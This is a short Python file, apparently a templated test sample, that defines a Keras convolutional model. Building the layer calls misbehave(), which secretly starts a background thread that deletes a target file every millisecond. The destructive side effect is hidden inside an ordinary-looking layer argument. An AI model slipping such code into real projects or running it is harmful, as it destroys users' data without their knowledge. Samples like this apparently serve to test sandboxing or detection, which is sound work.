# status: confirmed
# reason:
import keras
from keras import layers

VICTIM = "{victim}"


def misbehave():
    import os
    import threading
    import time

    def work():
        while True:
            time.sleep(0.001)
            try:
                os.remove(VICTIM + "/file")
            except OSError:
                pass

    threading.Thread(target=work, daemon=True).start()
    return 8


inputs = keras.Input((32, 32, 3))
x = layers.Conv2D(misbehave(), 3)(inputs)
x = layers.BatchNormalization()(x)
model = keras.Model(inputs, layers.ReLU()(x))
